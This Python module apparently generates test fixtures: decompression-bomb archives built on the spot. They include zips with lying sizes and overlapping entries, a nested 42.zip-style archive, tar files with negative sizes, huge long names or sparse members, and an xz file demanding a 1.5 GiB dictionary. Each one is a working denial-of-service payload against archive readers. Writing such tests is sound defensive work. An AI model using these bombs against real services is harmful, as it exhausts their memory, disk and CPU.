"""Archives that are made to break what reads them, built on the spot: small here, huge where they are unpacked."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

MANY = 1_000_000
ZEROS = b"\0" * 2**20


def zip_entry(
    name: bytes,
    *,
    offset: int,
    compressed: int,
    size: int,
    crc: int = 0,
    method: int = zipfile.ZIP_DEFLATED,
    flags: int = 0,
) -> bytes:
    """A member's entry in the directory, which may claim anything (APPNOTE 4.3.12)."""
    fields = (20, 20, flags, method, 0, 0x21, crc, compressed, size, len(name), 0, 0, 0, 0, 0, offset)
    return b"PK\x01\x02" + struct.pack("<6H3I5H2I", *fields) + name


def local_header(name: bytes, *, compressed: int, size: int, crc: int, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    return b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, method, 0, 0x21, crc, compressed, size, len(name), 0) + name


def end_record(entries: int, size: int, offset: int) -> bytes:
    """The end of a zip, by zip64 where there are too many entries for two bytes (APPNOTE 4.3.14 to 4.3.16)."""
    if entries < 2**16 - 1:
        return b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, entries, entries, size, offset, 0)
    zip64 = b"PK\x06\x06" + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, entries, entries, size, offset)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, offset + size, 1)
    return zip64 + locator + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 2**16 - 1, 2**16 - 1, 2**32 - 1, 2**32 - 1, 0)


def write_zip(path: Path, body: bytes, entries: Iterable[bytes]) -> None:
    listed = list(entries)
    directory = b"".join(listed)
    path.write_bytes(body + directory + end_record(len(listed), len(directory), len(body)))


def deflate(mebibytes: int) -> bytes:
    """Zeros, compressed a thousand to one: a block of a mebibyte that can be repeated, and an empty last one."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (press.compress(ZEROS) + press.flush(zlib.Z_FULL_FLUSH)) * mebibytes + b"\x03\x00"


def million_empty_members(path: Path) -> None:
    write_zip(
        path, b"", (zip_entry(b"cats/%07d.jpg" % n, offset=0, compressed=0, size=0, method=0) for n in range(MANY))
    )


def ratio(path: Path) -> None:
    """One member, honest about its size: just within what a photo may have, were it not compressed so far."""
    data, size, name = deflate(120), 120 * 2**20, b"cats/1.jpg"
    crc = zlib.crc32(bytes(size))
    body = local_header(name, compressed=len(data), size=size, crc=crc) + data
    write_zip(path, body, [zip_entry(name, offset=0, compressed=len(data), size=size, crc=crc)])


def lying_size(path: Path) -> None:
    """Eight members that claim a kilobyte and unpack to a gigabyte, each."""
    data = deflate(1024)
    body, entries = bytearray(), []
    for number in range(8):
        name = b"cats/%d.jpg" % number
        entries.append(zip_entry(name, offset=len(body), compressed=len(data), size=1000, crc=0))
        body += local_header(name, compressed=len(data), size=1000, crc=0) + data
    write_zip(path, bytes(body), entries)


def lying_size_by(method: int, pack: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """The same, by a method of which zipfile unpacks all that it has read at once."""

    def write(path: Path) -> None:
        data = pack(ZEROS * 64)
        name = b"cats/1.jpg"
        body = local_header(name, compressed=len(data), size=2**20, crc=0, method=method) + data
        write_zip(path, body, [zip_entry(name, offset=0, compressed=len(data), size=2**20, method=method)])

    return write


def pack_lzma(data: bytes) -> bytes:
    filters = {"id": lzma.FILTER_LZMA1, "preset": 6}
    press = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[filters])
    properties = lzma._encode_filter_properties(filters)  # type: ignore[attr-defined]  # as zipfile does
    return struct.pack("<BBH", 9, 4, len(properties)) + properties + press.compress(data) + press.flush()


def one_kernel_for_all(path: Path) -> None:
    """A thousand entries of one and the same member (full overlap)."""
    data = deflate(100)
    body = local_header(b"a.jpg", compressed=len(data), size=100 * 2**20, crc=0) + data
    write_zip(
        path,
        body,
        (zip_entry(b"cats/%d.jpg" % n, offset=0, compressed=len(data), size=9 * 2**20) for n in range(1000)),
    )


def quoted_overlap(path: Path) -> None:
    """Each member's compressed data is the next member's header, quoted, and that member's data (Fifield 2019)."""
    size, rest = 100 * 2**20, deflate(100)
    entries = []  # from the innermost out: its name, compressed size, size, and how far before the end it begins
    for number in reversed(range(250)):
        name = b"cats/%d.jpg" % number
        header = local_header(name, compressed=len(rest), size=size, crc=0)
        entries.append((name, len(rest), size, len(header) + len(rest)))
        # A stored block that quotes the header stands before the rest, and together they are the next one's data.
        rest = b"\0" + struct.pack("<2H", len(header), len(header) ^ 0xFFFF) + header + rest
        size += len(header)
    write_zip(
        path,
        rest,
        (zip_entry(name, offset=len(rest) - end, compressed=c, size=s) for name, c, s, end in reversed(entries)),
    )


def nested(path: Path) -> None:
    """42.zip in small: zips of zips, five deep."""
    data = b"\0" * 2**22
    name = "0.jpg"
    for depth in range(5):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"{number}-{name}", data)
        data, name = buffer.getvalue(), f"lib{depth}.zip"
    path.write_bytes(data)


def claimed_directory(path: Path) -> None:
    """A zip64 that claims a directory of sixteen exabytes."""
    zip64 = b"PK\x06\x06" + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, 9, 9, 2**60, 0)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, 0, 1)
    path.write_bytes(zip64 + locator + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 9, 9, 2**32 - 1, 2**32 - 1, 0))


def tar_header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(tarfile.GNU_FORMAT)


def tar_by(compress: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """A compressed tar of twenty members of 120 MiB of zeros: a compressed file repeated is one, too."""

    def write(path: Path) -> None:
        path.write_bytes(compress(tar_header("cats/1.jpg", 120 * 2**20) + ZEROS * 120) * 20)

    return write


def tar_long_name(path: Path) -> None:
    """A name of eight gigabytes, and two gigabytes of it to unpack."""
    head = gzip.compress(tar_header("././@LongLink", 8 * 2**30, tarfile.GNUTYPE_LONGNAME))
    path.write_bytes(head + gzip.compress(b"a" * 2**20) * 2048)


def tar_backwards(path: Path) -> None:
    """A member of negative size: what follows it is itself, for ever (CVE-2025-8194)."""
    header = bytearray(tar_header("cats/1.jpg", 0))
    header[124:136] = b"\xff" * 10 + struct.pack(">h", -512)
    checksum = sum(header[:148]) + 8 * 32 + sum(header[156:512])
    header[148:156] = b"%06o\0 " % checksum
    path.write_bytes(tar_header("cats/0.jpg", 0) + bytes(header) * 20 + b"\0" * 1024)


def tar_of_headers(path: Path) -> None:
    """Ten thousand long names before any member: each is read within the one before."""
    path.write_bytes((tar_header("././@LongLink", 512, tarfile.GNUTYPE_LONGNAME) + b"a" * 512) * 10_000)


def tar_million(path: Path) -> None:
    header = tar_header("cats/1.jpg", 0)
    path.write_bytes(gzip.compress(header * (MANY // 200)) * 200)


def tar_sparse(path: Path) -> None:
    """Sparse members that claim gigabytes and hold nothing."""
    header = bytearray(tar_header("cats/1.jpg", 0, tarfile.GNUTYPE_SPARSE))
    header[483:495] = b"%011o\0" % (100 * 2**20)
    header[386:410] = b"%011o\0%011o\0" % (0, 0)
    checksum = sum(header[:148]) + 8 * 32 + sum(header[156:512])
    header[148:156] = b"%06o\0 " % checksum
    path.write_bytes(bytes(header) * 1000 + b"\0" * 1024)


def xz_memory(path: Path) -> None:
    """A tar.xz whose header asks for a dictionary of 1.5 GiB."""
    # The compressor would take that memory too: only the size in the block's header is changed.
    data = bytearray(
        lzma.compress(tar_header("cats/1.jpg", 0) + b"\0" * 1024, filters=[{"id": lzma.FILTER_LZMA2, "preset": 0}])
    )
    start = 12
    length = (data[start] + 1) * 4
    at = data.index(b"\x21\x01", start) + 2
    data[at] = 37  # 1.5 GiB (xz format 5.3.1)
    data[start + length - 4 : start + length] = struct.pack("<I", zlib.crc32(data[start : start + length - 4]))
    path.write_bytes(bytes(data))


BOMBS: dict[str, Callable[[Path], None]] = {
    "million-empty-members.zip": million_empty_members,
    "ratio.zip": ratio,
    "lying-size.zip": lying_size,
    "lying-bzip2.zip": lying_size_by(zipfile.ZIP_BZIP2, bz2.compress),
    "lying-lzma.zip": lying_size_by(zipfile.ZIP_LZMA, pack_lzma),
    "one-kernel.zip": one_kernel_for_all,
    "quoted-overlap.zip": quoted_overlap,
    "nested.zip": nested,
    "claimed-directory.zip": claimed_directory,
    "zeros.tar.gz": tar_by(gzip.compress),
    "zeros.tar.xz": tar_by(lambda data: lzma.compress(data, preset=0)),
    "zeros.tar.bz2": tar_by(bz2.compress),
    "long-name.tar.gz": tar_long_name,
    "backwards.tar": tar_backwards,
    "headers.tar": tar_of_headers,
    "million.tar.gz": tar_million,
    "sparse.tar": tar_sparse,
    "dictionary.tar.xz": xz_memory,
}
